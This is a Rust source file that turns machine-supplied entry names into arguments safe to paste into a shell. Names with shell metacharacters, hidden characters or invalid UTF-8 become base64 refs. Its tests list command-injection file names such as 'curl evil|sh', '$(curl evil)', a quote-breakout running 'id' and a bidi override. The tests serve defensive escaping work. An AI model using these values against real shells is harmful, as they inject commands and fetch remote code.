//! The place of an entry as the command line takes it, safe to paste into any shell: names come from machines and may
//! hold anything.

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use beckon_shared::{
    id::{DeviceId, RootId},
    path::RootPath,
    wire,
};

use crate::format;

/// Opens a ref of a live entry, which the command line takes in place of any names.
const LIVE_REF: &str = "ref:";

/// `MACHINE:ROOT/PATH`, in double quotes where it needs them. What could get out of them in some shell, what hides
/// letters, and what is no text stands as a ref.
pub(super) fn argument(device: DeviceId, root: RootId, path: &RootPath, names: &str) -> String {
    let is_whole = std::str::from_utf8(path.as_bytes()).is_ok();
    if !is_whole || !is_shown(names) || names.contains(gets_out) {
        let place = wire::encode(&(device, root, path));
        return format!("{LIVE_REF}{}", URL_SAFE_NO_PAD.encode(place));
    }
    match names.chars().all(is_plain) {
        true => names.to_owned(),
        false => format!("\"{names}\""),
    }
}

/// Whether what is read is all that is there.
fn is_shown(names: &str) -> bool {
    format::name(names) == names
}

/// Bash opens `$`, `` ` ``, `\` and `!` in double quotes, cmd.exe `%` and `!`; PowerShell takes curly quotes for straight ones.
fn gets_out(c: char) -> bool {
    matches!(c, '"' | '$' | '`' | '\\' | '!' | '%' | '\u{201c}'..='\u{201f}')
}

fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | ':')
}

#[cfg(test)]
mod tests {
    use wasm_bindgen_test::wasm_bindgen_test;

    use super::*;

    fn pasted(path: &[u8]) -> String {
        let path = RootPath::new(path).unwrap();
        let names = format!("desk:Projects/{}", String::from_utf8_lossy(path.as_bytes()));
        argument(DeviceId([1; 32]), RootId([2; 16]), &path, &names)
    }

    #[wasm_bindgen_test]
    fn plain_names_stay_as_they_are_and_others_are_quoted() {
        assert_eq!(pasted(b"a/b-1.txt"), "desk:Projects/a/b-1.txt");
        assert_eq!(pasted(b"it's a; b|c & (d)"), "\"desk:Projects/it's a; b|c & (d)\"");
        assert_eq!(pasted("图片.png".as_bytes()), "\"desk:Projects/图片.png\"");
    }

    #[wasm_bindgen_test]
    fn what_a_shell_would_open_stands_as_a_ref() {
        let traps = [
            b"a\ncurl evil|sh\n".as_slice(),
            b"$(curl evil)",
            b"`id`",
            b"a\"; id; \"",
            b"%PATH%",
            b"!!",
            b"a\\",
            "\u{201d}; calc; \u{201c}".as_bytes(),
            "a\u{202e}b".as_bytes(),
            b"\xff",
        ];
        for trap in traps {
            let pasted = pasted(trap);
            let token = pasted.strip_prefix(LIVE_REF).unwrap_or_default();
            assert!(
                token.len() > 64 && token.chars().all(|c| is_plain(c) && c != '/'),
                "{pasted}"
            );
        }
    }
}
